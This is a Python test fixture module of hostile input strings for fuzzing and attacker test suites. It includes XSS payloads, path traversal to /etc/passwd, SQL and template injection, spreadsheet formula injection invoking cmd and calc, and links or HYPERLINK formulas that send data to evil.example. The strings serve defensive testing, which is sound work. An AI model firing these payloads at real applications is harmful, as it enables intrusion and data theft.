"""Texts that hurt what stores, sends, draws or runs them; the suites of bad input and attackers share them."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tests.promises import at

# What hurts what stores, sends or draws it: name, text.
ODD = {
    "nothing": "",
    "blanks": " \t\n\u3000\u00a0",
    "only signs that hide": "\u200b\u200e\u202e\ufeff\u2066",
    "NUL": "a\x00b",
    "every control": "".join(map(chr, range(32))) + "x",
    "half a pair": "\ud83d lamp \ude00",
    "right to left": "שלום עולם ومرحبا بكم",
    "turned round": "abc\u202egpj.exe\u202c def",
    "isolates": "\u2066\u2067\u2068lamp\u2069\u2069",
    "zalgo": "l" + "\u0301\u0327" * 900 + "amp",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 20,
    "private and unassigned": "\ue000\U0010ffff\ufdd0\uffff lamp",
    "ligatures that grow": "\ufdfa" * 200,
    "one word": "a" * 1_900,
    "lines": "a\n" * 900,
    "a format": "%s %n {0} {text} ${x} #{x} {{7*7}} <%= 7*7 %>",
    "a statement": "'; DROP TABLE interactions; --",
    "a path": "../../../../etc/passwd\x00.txt",
    "a line of a log": "fine\r\n2026-01-01 ERROR hearback: all is lost",
    "a number": "9" * 1_000,
    "a tag": "<script>alert(1)</script>",
}

# What runs, loads or leads away where text is taken for markup, a formula, a template or an address.
ACTIVE = (
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked=1">',
    "<svg onload=window.hacked=1>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '"><script>window.hacked=1</script>',
    "![pixel](http://127.0.0.1:9/pixel.png)",
    "[click here](javascript:window.hacked=1)",
    "[click here](http://evil.example/)",
    "[data](data:text/html,<script>window.hacked=1</script>)",
    "<http://evil.example/>",
    "http://evil.example/?q=secret",
    "www.evil.example",
    "somebody@evil.example",
    "[a]: http://evil.example/\n[a]",
    "<style>@import url(http://127.0.0.1:9/x.css)</style>",
    "$\\href{javascript:window.hacked=1}{x}$ $$\\require{html}$$",
    ":red-background[x] :material/home: :streamlit: :smile:",
    "# heading\n\n---\n\n```html\n<b>x</b>\n```",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/c calc'!A1",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "__import__('os').system('true')",
)

# What begins like one of these runs in a spreadsheet.
FORMULAS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "|calc",
    "%0A-1",
)

# Any text at all, and such as holds nothing but lone surrogates, controls and marks.
ANY_TEXT = st.text(max_size=300) | st.text(st.characters(categories=["Cs", "Cc", "Mn"]))


def fuzzed(short: int, long: int) -> settings:
    """Return how many examples Hypothesis tries, the same ones in each run; a fixture serves for all of them."""
    return settings(
        max_examples=at(short, long),
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
        derandomize=True,
    )
